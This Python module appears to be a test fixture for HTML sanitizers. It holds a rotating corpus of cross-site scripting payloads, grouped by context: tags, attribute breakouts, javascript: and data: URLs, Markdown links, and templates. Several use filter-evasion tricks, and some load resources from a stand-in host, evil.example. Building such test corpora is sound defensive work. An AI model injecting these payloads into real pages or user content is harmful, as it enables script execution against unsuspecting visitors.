"""Texts that would run in a browser if a page ever took them for more than text.

Each calls `alert`, by itself or when pressed. They are for the places where a text ends up: between
tags, in an attribute with either quote or none, in an address, in Markdown, in a title, in a
script, in a style, and for readers of HTML that mend what is broken.
"""

BETWEEN_TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<math><mtext></table><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import'//evil.example/x';*{background:url(//evil.example/y)}</style>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "\u2028<img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)
OUT_OF_AN_ATTRIBUTE = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus",
    '"/><svg onload=alert(1)>',
    "--><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
)
IN_AN_ADDRESS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://meet.example.test/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    'https://meet.example.test/"onmouseover="alert(1)',
    "https://meet.example.test/'><script>alert(1)</script>",
)
IN_MARKDOWN = (
    "[read this](javascript:alert(1))",
    "[read this](JAVASCRIPT&colon;alert(1))",
    "[read this](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a picture](x onerror=alert(1))",
    "<javascript:alert(1)>",
    '[read this](https://a.example "onmouseover=alert(1)")',
    "[read this][x]\n\n[x]: javascript:alert(1)",
    "```<script>alert(1)</script>```",
)
IN_A_TEMPLATE = (
    "{{7*7}}<script>alert(1)</script>",
    "{% raw %}<svg onload=alert(1)>",
    "${alert(1)}",
)

CORPUS = (*BETWEEN_TAGS, *OUT_OF_AN_ATTRIBUTE, *IN_AN_ADDRESS, *IN_MARKDOWN, *IN_A_TEMPLATE)


def fitting(length: int | None, turn: int) -> str:
    """All of them for a text without a limit, else the one whose turn it is among those that fit.

    The one whose turn it is comes first, so that over as many turns each of them begins.
    """
    first = turn % len(CORPUS)
    ordered = [*CORPUS[first:], *CORPUS[:first]]
    if length is None:
        return "\n\n".join(ordered)
    return next((one for one in ordered if len(one) <= length), "<b>")
